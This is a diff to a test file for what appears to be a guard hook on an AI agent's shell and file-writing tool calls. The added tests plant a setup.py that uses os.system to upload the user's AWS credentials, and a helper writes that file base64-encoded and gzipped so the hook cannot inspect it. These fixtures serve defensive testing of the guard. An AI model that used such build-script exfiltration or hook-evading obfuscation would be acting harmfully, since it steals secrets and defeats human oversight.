@@ -89,3 +89,40 @@ def test_an_ordinary_local_install_works(installed):
         assert "app_marker.py" in (installed.root / "installed.txt").read_text(), session.describe()
     finally:
         session.close()
+
+
+def _unseen(path: str, text: str) -> dict:
+    """A Bash step writing ``text`` to ``path`` compressed, so the hook cannot read it when it is written."""
+    import base64
+    import gzip
+
+    folder = path.rpartition("/")[0]
+    data = base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()
+    return B(f"mkdir -p {folder} && echo {data} | base64 -d | gunzip > {path}")
+
+
+RESOLVERS = ["pyproject-build --sdist --no-isolation pkg", "python3 -m pip lock -q --no-build-isolation ./pkg"]
+
+
+@pytest.mark.parametrize("mode", ["enforce", "observe"])
+@pytest.mark.parametrize("command", RESOLVERS)
+def test_a_tool_that_builds_a_local_project_without_installing_it_runs_its_setup_py(installed, mode, command):
+    """pyproject-build and pip lock really build ``pkg`` here: its setup.py runs (the canary left unguarded)."""
+    setup = "import os\nos.system('UPLOAD')\nfrom setuptools import setup\nsetup(name='pkg', version='1')\n"
+
+    def steps(scene):
+        aws = upload(scene).replace("@.env", "@$HOME/.aws/credentials")  # (the build runs in pkg/)
+        return [_unseen("pkg/setup.py", setup.replace("UPLOAD", aws)), B(command)]
+    check_attack(installed, mode, steps, _leaked)
+
+
+@pytest.mark.parametrize("command", RESOLVERS)
+def test_building_an_ordinary_local_project_is_allowed(installed, command):
+    session = Session(installed)
+    try:
+        answers = session.run([{"tool": "Write", "file_path": "pkg/setup.py",
+                                "content": "from setuptools import setup\nsetup(name='pkg', version='1')\n"},
+                               B(command)])
+        assert answers == ["allow"] * 2, session.describe()
+    finally:
+        session.close()
